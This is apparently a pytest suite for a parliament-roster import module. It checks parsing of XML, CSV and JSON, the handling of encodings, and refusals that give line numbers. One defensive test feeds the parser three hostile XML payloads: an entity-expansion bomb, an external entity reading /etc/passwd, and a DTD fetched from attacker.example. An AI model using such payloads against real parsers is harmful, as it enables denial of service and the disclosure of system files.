"""Files become records, or a refusal that says where and why."""

from __future__ import annotations

import tracemalloc
from datetime import date
from pathlib import Path

import pytest

from crm.roster_import import readers
from crm.roster_import.readers import open_roster
from crm.roster_import.readers.source import to_date, to_gender, to_handle, to_phone
from crm.roster_import.records import BadLine, Doubt, Item, Problem, Record, RosterFormat, Seat, UnreadableRoster
from tests.factories.roster_import import PATRIOTS, full_list, member, members, table


def read(path: Path) -> list[Item]:
    return list(open_roster(path).records())


def records(path: Path) -> list[Record]:
    return [item for item in read(path) if isinstance(item, Record)]


def refusal(path: Path) -> UnreadableRoster:
    with pytest.raises(UnreadableRoster) as refused:
        read(path)
    return refused.value


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


class TestFullList:
    def test_a_member_comes_whole(self, tmp_path: Path) -> None:
        path = full_list(tmp_path / "list.xml", [member(7, "Ada de LOVELACE", country="Malta", group=PATRIOTS)])
        source = open_roster(path)
        (found,) = records(path)
        assert (source.format, source.complete, source.institution) == (
            RosterFormat.EP_FULL_LIST,
            True,
            "European Parliament",
        )
        assert (found.name, found.given_name, found.family_name) == ("Ada de LOVELACE", "Ada", "de LOVELACE")
        assert (found.country, found.party, found.line) == ("Malta", "Partido Inventado", 3)
        assert found.identifiers == (("europarl", "7"),)
        assert found.mandates[0].group == PATRIOTS

    def test_lines_are_those_of_the_members(self, tmp_path: Path) -> None:
        assert [found.line for found in records(full_list(tmp_path / "list.xml", members(3)))] == [3, 10, 17]

    def test_a_member_without_a_name_is_a_bad_line(self, tmp_path: Path) -> None:
        path = full_list(tmp_path / "list.xml", [member(1, "Ada ONE"), {"id": "2", "country": "Malta"}])
        assert read(path)[1] == BadLine(10, "2, Malta", Problem.NO_NAME)

    def test_a_missing_root_is_named_with_its_line_and_the_bare_ampersands(self, tmp_path: Path) -> None:
        text = full_list(tmp_path / "list.xml", members(2)).read_text().replace("Partido Inventado", "Left & Right")
        error = refusal(write(tmp_path / "damaged.xml", "\r\n" + text.split("<mep>\n", 1)[1]))
        assert error.line == 3
        assert "Line 3: the beginning of the file is lost" in str(error)
        assert "6, 13" in str(error)
        assert "nothing was changed" in str(error)

    def test_a_bare_ampersand_is_named_with_its_line(self, tmp_path: Path) -> None:
        path = full_list(tmp_path / "list.xml", members(2))
        error = refusal(write(path, path.read_text().replace("INVENTED2", "INVENTED & 2")))
        assert error.line == 11

    def test_a_file_cut_off_is_refused(self, tmp_path: Path) -> None:
        path = full_list(tmp_path / "list.xml", members(2))
        assert "damaged or cut off" in str(refusal(write(path, path.read_text()[:-30])))

    def test_another_xml_file_is_refused_by_its_name(self, tmp_path: Path) -> None:
        assert "<html>" in str(refusal(write(tmp_path / "page.xml", "<html><body/></html>")))

    def test_incoming_members_further_down_are_no_part_of_it(self, tmp_path: Path) -> None:
        coming = member(99, "Ada ONE") | {"mandate-start": "16/07/2024"}
        assert "incoming or outgoing" in str(refusal(full_list(tmp_path / "list.xml", [*members(40), coming])))

    @pytest.mark.parametrize(
        "declaration",
        [
            '<!DOCTYPE meps [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
            '<!DOCTYPE meps [<!ENTITY f SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE meps SYSTEM "http://attacker.example/x.dtd">',
        ],
    )
    def test_bombs_are_refused_where_they_are_declared(self, tmp_path: Path, declaration: str) -> None:
        error = refusal(write(tmp_path / "bomb.xml", f'<?xml version="1.0"?>\n{declaration}\n<meps>&b;</meps>'))
        assert "declares entities or a document type" in str(error)
        assert error.line == 2

    def test_nesting_without_end_is_refused(self, tmp_path: Path) -> None:
        assert "deeper" in str(refusal(write(tmp_path / "deep.xml", "<meps>" + "<mep>" * 1000)))

    def test_a_text_without_end_is_refused_before_it_fills_the_memory(self, tmp_path: Path) -> None:
        path = write(tmp_path / "long.xml", "<meps><mep><fullName>" + "a" * 20_000_000 + "</fullName></mep></meps>")
        tracemalloc.start()
        error = refusal(path)
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert "longer than any" in str(error)
        assert peak < 2_000_000

    def test_a_long_list_is_read_with_flat_memory(self, tmp_path: Path) -> None:
        path = full_list(tmp_path / "list.xml", members(20_000))
        tracemalloc.start()
        count = sum(1 for _ in open_roster(path).records())
        _now, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert count == 20_000
        assert path.stat().st_size > 4_000_000
        assert peak < 2_000_000


class TestTable:
    def test_columns_are_recognised_by_name_in_several_languages(self, tmp_path: Path) -> None:
        row = {"Prénom": "Zoë", "NOM": "Öztürk", "E-Mail": "Zoe@Parliament.example", "Pays": "Belgique", "Cote": "?"}
        (found,) = records(table(tmp_path / "people.csv", [row]))
        assert (found.name, found.given_name, found.family_name) == ("Zoë Öztürk", "Zoë", "Öztürk")
        assert (found.emails, found.country) == (("zoe@parliament.example",), "Belgique")
        assert found.mandates == ()
        source = open_roster(tmp_path / "people.csv")
        assert (source.unread, source.complete, source.institution) == (("Cote",), None, "")

    def test_the_columns_of_a_parliament_table(self, tmp_path: Path) -> None:
        row = {
            "first_name": "Ada",
            "last_name": "LOVELACE",
            "email": "ada@parliament.example",
            "birthdate": "1815-12-10",
            "gender": "F",
            "country": "mt",
            "eugroup": "Patriots",
            "party": "-",
            "phone": "003222845022",
            "office": "04M081",
            "committee": "AGRI|FISC",
            "substitute": "ECON",
            "delegation": "D-IQ",
            "twitter": "x.com/ada",
            "epid": "7",
            "since": "2024-08-01",
            "AGRI": "C",
            "LIBE": "V",
        }
        (found,) = records(table(tmp_path / "people.csv", [row]))
        assert found.identifiers == (("europarl", "7"),)
        assert (found.birth_date, found.gender) == (date(1815, 12, 10), "female")
        assert found.phones == ("+3222845022",)
        assert found.addresses == ("European Parliament, 04M081",)
        assert found.twitter == ("ada",)
        assert (found.mandates[0].group, found.mandates[0].start) == ("Patriots", date(2024, 8, 1))
        assert found.seats == (
            Seat("AGRI", "chair"),
            Seat("D-IQ", "member"),
            Seat("ECON", "substitute"),
            Seat("FISC", "member"),
            Seat("LIBE", "vice-chair"),
        )

    @pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
    def test_delimiters(self, tmp_path: Path, delimiter: str) -> None:
        text = delimiter.join(["name", "email"]) + "\n" + delimiter.join(["Ada LOVELACE", "ada@x.example"])
        (found,) = records(write(tmp_path / "people.csv", text))
        assert (found.family_name, found.emails) == ("LOVELACE", ("ada@x.example",))

    @pytest.mark.parametrize(
        ("content", "line"),
        [
            pytest.param(b"\xef\xbb\xbfname\nAda\nJos\xe9\n", 3, id="Windows-1252 under a UTF-8 mark"),
            pytest.param("\ufeffname\nĊĊĊ\nAda\n".encode("utf-16-le")[:-1], 3, id="half a letter of UTF-16-LE"),
            pytest.param("\ufeffname\nAda\nJosé".encode("utf-16-be") + b"\xd8\x00", 3, id="half a pair of UTF-16-BE"),
            pytest.param(
                "\ufeffname\n".encode("utf-16-be") + "Ada\n".encode("utf-16-be") * 20_000 + b"\xdc\x00\0a",
                20_002,
                id="a broken pair far down in UTF-16-BE",
            ),
        ],
    )
    def test_a_byte_order_mark_that_does_not_hold_is_refused_with_the_line(
        self, tmp_path: Path, content: bytes, line: int
    ) -> None:
        path = tmp_path / "people.csv"
        path.write_bytes(content)
        error = refusal(path)
        assert error.line == line
        assert f"Line {line}: the file says of itself that it is UTF-" in str(error)
        assert "Save it again as CSV in UTF-8" in str(error)

    @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "cp1252", "utf-16", "utf-16-le", "utf-16-be"])
    def test_encodings(self, tmp_path: Path, encoding: str) -> None:
        (found,) = records(write(tmp_path / "people.csv", "name,country\nZoë ŒUVRÉ,España\n", encoding))
        assert (found.name, found.country) == ("Zoë ŒUVRÉ", "España")

    def test_letters_of_no_known_encoding_are_refused_with_the_line(self, tmp_path: Path) -> None:
        path = tmp_path / "people.csv"
        path.write_bytes(b"name\nAda\nZo\x81\xeb\n")
        assert refusal(path).line == 3

    def test_two_encodings_in_one_file_are_refused_with_the_line(self, tmp_path: Path) -> None:
        path = tmp_path / "people.csv"
        path.write_bytes("name\nAda\nJosé\n".encode() + "Íñigo\n".encode("cp1252"))
        error = refusal(path)
        assert error.line == 4
        assert "those of other lines are" in str(error)

    @pytest.mark.parametrize("text", ['{"groups": []}', "\ufeff [1, 2]", "[" * 5000])
    def test_json_of_no_known_kind_is_said_to_be(self, tmp_path: Path, text: str) -> None:
        assert "This JSON file is of no kind" in str(refusal(write(tmp_path / "some.json", text)))

    def test_bad_lines_are_told_and_the_rest_is_read(self, tmp_path: Path) -> None:
        path = write(
            tmp_path / "people.csv", 'name,email\nAda,a@x.example\n\nGrace\n,b@x.example\n"Jean\nBARTIK",c@x.example\n'
        )
        found = read(path)
        assert [(item.line, getattr(item, "problem", None)) for item in found] == [
            (2, None),
            (4, Problem.WRONG_COLUMNS),
            (5, Problem.NO_NAME),
            (6, None),
        ]
        assert found[3] == Record(6, "Jean BARTIK", "Jean", "BARTIK", emails=("c@x.example",))

    def test_values_that_cannot_be_taken_over_are_doubts(self, tmp_path: Path) -> None:
        row = {"name": "Ada LOVELACE", "email": "ada(at)x.example; ada@x.example", "birthdate": "12/31/1815"}
        (found,) = records(table(tmp_path / "people.csv", [row]))
        assert found.emails == ("ada@x.example",)
        assert found.birth_date is None
        assert set(found.doubts) == {
            Doubt("email", "ada(at)x.example", Problem.NOT_AN_ADDRESS),
            Doubt("birth_date", "12/31/1815", Problem.NOT_A_DATE),
        }

    def test_a_quotation_that_never_closes_is_refused_with_the_line(self, tmp_path: Path) -> None:
        error = refusal(write(tmp_path / "people.csv", 'name,email\n"Ada,a@x.example\nGrace,b@x.example\n'))
        assert "quotation mark" in str(error)
        assert error.line == 3

    def test_a_table_without_names_says_which_columns_it_has(self, tmp_path: Path) -> None:
        assert "score, level" in str(refusal(write(tmp_path / "scores.csv", "score, level\n1,2\n")))


@pytest.mark.parametrize("content", [b"PK\x03\x04 a spreadsheet", b"%PDF-1.7", b"\x1f\x8b\x08", b"\xd0\xcf\x11\xe0"])
def test_files_that_are_no_text_are_refused(tmp_path: Path, content: bytes) -> None:
    (tmp_path / "people.xlsx").write_bytes(content)
    assert "Save it as CSV" in str(refusal(tmp_path / "people.xlsx"))


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    assert "empty" in str(refusal(write(tmp_path / "people.csv", " \n")))


def test_a_file_too_large_is_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(readers, "MAX_BYTES", 10)
    assert "Split it" in str(refusal(write(tmp_path / "people.csv", "name\nAda LOVELACE\n")))


@pytest.mark.parametrize(
    ("text", "day"),
    [
        ("2024-07-16", date(2024, 7, 16)),
        ("2024-07-16T00:00:00", date(2024, 7, 16)),
        ("16/07/2024", date(2024, 7, 16)),
        ("6.7.2024 01:00", date(2024, 7, 6)),
        (" ", None),
    ],
)
def test_dates(text: str, day: date | None) -> None:
    assert to_date(text) == day


@pytest.mark.parametrize("text", ["2024-13-01", "07/16/2024", "July 2024", "2024-07-161", "0"])
def test_what_is_no_date(text: str) -> None:
    with pytest.raises(ValueError, match=r"\d|month|day"):
        to_date(text)


def test_words_of_sources() -> None:
    assert [to_gender(word) for word in ("M", "female", "Femme", "Divers", "")] == [
        "male",
        "female",
        "female",
        "divers",
        "",
    ]
    assert to_phone("0032 2 284") == "+32 2 284"
    assert [to_handle(text) for text in ("@ada", "https://twitter.com/ada?lang=en", "ada")] == ["ada", "ada", "ada"]
